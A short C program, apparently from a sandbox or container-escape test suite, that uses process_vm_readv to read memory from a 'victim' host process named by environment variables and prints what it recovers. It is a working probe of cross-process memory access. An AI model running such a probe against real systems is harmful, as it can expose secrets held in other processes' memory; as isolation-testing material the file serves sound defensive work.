/* Reads the memory of a process of the host by a call. */
#include "escape.h"
#include <sys/uio.h>

int main(void) {
    char found[128] = "";
    struct iovec ours = { found, sizeof found - 1 };
    struct iovec theirs = { (void *)strtoul(given("ESC_VICTIM_ADDRESS"), NULL, 10), sizeof found - 1 };
    if (process_vm_readv(atoi(given("ESC_VICTIM")), &ours, 1, &theirs, 1, 0) > 0) printf("%s\n", found);
}
